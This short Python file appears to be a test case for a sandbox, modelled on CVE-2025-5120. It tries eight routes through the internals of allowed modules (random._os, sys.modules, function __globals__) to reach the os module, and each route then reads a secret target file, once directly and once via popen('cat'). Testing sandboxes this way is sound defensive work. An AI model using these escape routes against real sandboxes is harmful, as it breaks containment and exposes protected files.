"""Reach os through the attributes of modules that a list of allowed imports has, as in CVE-2025-5120.

canary: secret
control: through
"""
import collections
import queue
import random
import re
import statistics
import threading

secret = TARGETS["secret"]
for way in (
    lambda: random._os,
    lambda: queue.threading._sys.modules["os"],
    lambda: re.enum.sys.modules["os"],
    lambda: collections._sys.modules["os"],
    lambda: statistics.random._os,
    lambda: threading._os if hasattr(threading, "_os") else threading._sys.modules["os"],
    lambda: threading.Thread.__init__.__globals__["_sys"].modules["posix"],
    lambda: random.Random.__reduce__.__globals__["_os"],
):
    try:
        system = way()
        print(system.read(system.open(secret, 0), 100))
        print(system.popen(f"cat {secret}").read())
    except Exception as error:
        print(repr(error))
